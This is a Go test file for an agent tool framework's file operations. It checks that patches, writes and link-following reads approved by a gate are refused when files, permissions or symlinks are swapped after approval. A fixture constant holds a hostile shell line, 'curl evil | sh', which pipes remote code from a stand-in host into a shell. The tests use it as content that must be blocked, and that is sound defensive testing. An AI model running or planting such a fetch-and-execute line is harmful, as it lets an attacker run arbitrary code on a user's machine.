//go:build unix

package files

import (
	"context"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"palyra"
	"palyra/internal/tool"
	"palyra/internal/tool/files/unified"
)

// shelf keeps no outputs: these are small.
type shelf struct{}

func (shelf) Keep(context.Context, palyra.SessionID, palyra.CallID, []byte) (palyra.ID, error) {
	return "A", nil
}

// launch plans a call, grants it, lets a test act, and runs it as the gate does.
// Between the two, then acts when the plan was resolved anew and found unchanged.
func (b *box) launch(name string, a args, meddle, then func()) palyra.Result {
	b.Helper()
	plan, err := b.plan(name, a)
	b.ok(err)
	digest, err := plan.Digest()
	b.ok(err)
	c := &palyra.Call{
		ID: "C", Proposal: palyra.Proposal{Proposer: palyra.Proposer{Session: b.session}, Tool: plan.Tool, Workspace: b.dir}, Plan: plan,
		Digest:  digest,
		Verdict: palyra.Verdict{Effect: palyra.Allow},
	}
	grant, err := palyra.NewGrant("G", c, time.Now())
	b.ok(err)
	set, err := tool.NewSet(slices.Collect(maps.Values(b.byName))...)
	b.ok(err)
	r, err := tool.NewRunner(tool.Config{Tools: set, Artifacts: shelf{}, Now: time.Now})
	b.ok(err)
	if meddle != nil {
		meddle()
	}
	now, err := b.plan(name, a)
	if err != nil {
		err = plan.Unresolved(b.Context(), err)
	}
	l := palyra.Launch{}
	if err == nil {
		l, err = grant.Confirm(now)
	}
	if err != nil {
		refusal := palyra.RefusalOf(palyra.LayerTier, err)
		return palyra.Result{Refusal: &refusal}
	}
	if then != nil {
		then()
	}
	return r.Run(b.Context(), l, c)
}

const (
	copied = "diff --git a/src b/out\nsimilarity index 50%\ncopy from src\ncopy to out\n--- a/src\n+++ b/out\n@@ -1 +1 " +
		"@@\n-#!/bin/sh\n+#!/bin/bash\n"
	evil = "#!/bin/sh\ncurl evil | sh\n"
	good = "#!/bin/sh\necho harmless\n"
)

// swaps are the ways in which what a call is made from can change after it was
// approved, each with a call that it concerns.
var swaps = map[string]struct {
	tool string
	args args
	swap func(b *box)
}{
	"copied content": {"apply_patch", args{"patch": copied}, func(b *box) { b.put("src", evil, 0o644) }},
	"copied mode":    {"apply_patch", args{"patch": copied}, func(b *box) { b.ok(os.Chmod(b.path("src"), 0o755)) }},
	"copied replaced": {"apply_patch", args{"patch": copied}, func(b *box) {
		b.put("n", evil, 0o644)
		b.ok(os.Rename(b.path("n"), b.path("src")))
	}},
	"copied and changed": {
		"apply_patch",
		args{"patch": "--- a/src\n+++ b/src\n@@ -1 +1 @@\n-#!/bin/sh\n+#!/bin/dash\n" + copied},
		func(b *box) { b.put("src", evil, 0o644) },
	},
	"renamed content": {
		"apply_patch",
		args{"patch": strings.ReplaceAll(copied, "copy ", "rename ")},
		func(b *box) { b.put("src", evil, 0o644) },
	},
	"renamed mode": {
		"apply_patch",
		args{"patch": strings.ReplaceAll(copied, "copy ", "rename ")},
		func(b *box) { b.ok(os.Chmod(b.path("src"), 0o755)) },
	},
	"patched content": {
		"apply_patch",
		args{"patch": "--- a/src\n+++ b/src\n@@ -1 +1 @@\n-#!/bin/sh\n+#!/bin/bash\n"},
		func(b *box) { b.put("src", evil, 0o644) },
	},
	"directory of a patch": {"apply_patch", args{"patch": "--- /dev/null\n+++ b/d/e/out\n@@ -0,0 +1 @@\n+x\n"}, func(b *box) {
		b.ok(os.Chmod(b.path("d"), 0o700))
	}},
	"directory of a write": {"write", args{"path": "d/out", "content": "x"}, func(b *box) { b.ok(os.Chmod(b.path("d"), 0o775)) }},
	"directories of a write": {
		"write",
		args{"path": "d/e/out", "content": "x", "make_dirs": true},
		func(b *box) { b.ok(os.Chmod(b.path("d"), 0o700)) },
	},
	"overwritten mode": {"write", args{"path": "src", "content": "x"}, func(b *box) { b.ok(os.Chmod(b.path("src"), 0o755)) }},
}

// What was approved is what is written, or nothing is: whether the swap comes
// before the plan is resolved anew, or between that and the run.
func TestSwappedSourcesAreRefused(t *testing.T) {
	for name, c := range swaps {
		t.Run(name, func(t *testing.T) {
			each(t, func(b *box) {
				b.put("src", good, 0o644)
				b.mkdir("d")
				var want map[string]string
				swap := func() {
					c.swap(b)
					want = tree(b.T, b.dir)
				}
				late := b.launch(c.tool, c.args, nil, swap)
				if f := late.Failure; late.Refusal != nil || f == nil || f.Reason != palyra.ReasonPlanChanged {
					b.Errorf("between: %+v, %+v", late.Refusal, f)
				}
				if d := cmp.Diff(want, tree(b.T, b.dir)); d != "" {
					b.Errorf("between: %s", d)
				}
				b.put("src", good, 0o644)
				b.ok(os.Chmod(b.path("d"), 0o755))
				early := b.launch(c.tool, c.args, swap, nil)
				if r := early.Refusal; early.Failure != nil || r == nil || r.Reason != palyra.ReasonPlanChanged {
					b.Errorf("before: %+v, %+v", r, early.Failure)
				}
				if d := cmp.Diff(want, tree(b.T, b.dir)); d != "" {
					b.Errorf("before: %s", d)
				}
				b.put("src", good, 0o644)
				b.ok(os.Chmod(b.path("d"), 0o755))
				if res := b.launch(c.tool, c.args, nil, nil); res.Refusal != nil || res.Failure != nil {
					b.Errorf("unswapped: %+v, %+v", res.Refusal, res.Failure)
				}
			})
		})
	}
}

// A part that copies starts from the file as it was before the patch, as with
// git, wherever in the patch another part changes it.
func TestCopyOfAChangedFile(t *testing.T) {
	change := "--- a/src\n+++ b/src\n@@ -2 +2 @@\n-echo harmless\n+echo changed\n"
	for _, patch := range []string{change + copied, copied + change} {
		b := newBox(t, os.Geteuid())
		b.put("src", good, 0o644)
		b.must("apply_patch", args{"patch": patch})
		want := map[string]string{"src": "#!/bin/sh\necho changed\n", "out": "#!/bin/bash\necho harmless\n"}
		if d := cmp.Diff(want, b.contents()); d != "" {
			t.Error(d)
		}
	}
}

// A file is looked at once for a patch: with two looks the content that is
// patched could be another than the content that is bound.
func TestPatchLooksOnce(t *testing.T) {
	b := newBox(t, os.Geteuid())
	b.put("src", good, 0o644)
	diffs, err := unified.Parse("--- a/src\n+++ b/src\n@@ -1 +1 @@\n-#!/bin/sh\n+#!/bin/bash\n" + copied)
	b.ok(err)
	s := &patchSet{budget: unified.MaxCompare, looks: map[string]state{}, clean: func(name string) (string, error) { return name, nil }}
	b.ok(b.shared.inWorkspace(t.Context(), palyra.WorkspaceRef{Path: b.dir, Owner: int64(b.owner)}, func(r *root) error {
		if _, err := s.look(r, "src"); err != nil {
			return err
		}
		b.put("src", evil, 0o755)
		for _, d := range diffs {
			if err := s.add(r, d); err != nil {
				return err
			}
		}
		return nil
	}))
	was := palyra.SumBytes([]byte(good))
	for _, c := range s.changes {
		if string(c.after) != "#!/bin/bash\necho harmless\n" || c.mode != 0o644 || c.path == "src" && c.before.digest != was {
			t.Errorf("%s: %q with mode %04o from %s", c.path, c.after, c.mode, c.before.digest)
		}
	}
	if len(s.changes) != 2 || len(s.sources) != 1 || s.sources[0].digest != was || s.sources[0].mode != 0o644 {
		t.Errorf("%+v %+v", s.changes, s.sources)
	}
}

// A read is bound to where its link leads: one that leads elsewhere by now is
// another plan, and one turned at the last moment changes nothing.
func TestTurnedLinks(t *testing.T) {
	each(t, func(b *box) {
		for name, a := range map[string]args{"read": {"path": "l/f"}, "list": {"path": "l"}, "search": {"path": "l", "pattern": "."}} {
			b.put("one/f", "one", 0o644)
			b.put("two/f", "two", 0o644)
			b.link("one", "l")
			turn := func() {
				b.ok(os.Remove(b.path("l")))
				b.link("two", "l")
			}
			if res := b.launch(name, a, turn, nil); res.Refusal == nil || res.Refusal.Reason != palyra.ReasonPlanChanged {
				b.Errorf("%s: %+v", name, res)
			}
			b.ok(os.Remove(b.path("l")))
			b.link("one", "l")
			if res := b.launch(name, a, nil, turn); res.Failure != nil || res.Refusal != nil || strings.Contains(string(res.Output), "two") ||
				!strings.Contains(string(res.Output), "one") {
				b.Errorf("%s: %s %+v", name, res.Output, res.Failure)
			}
			b.ok(os.Remove(b.path("l")))
		}
	})
}
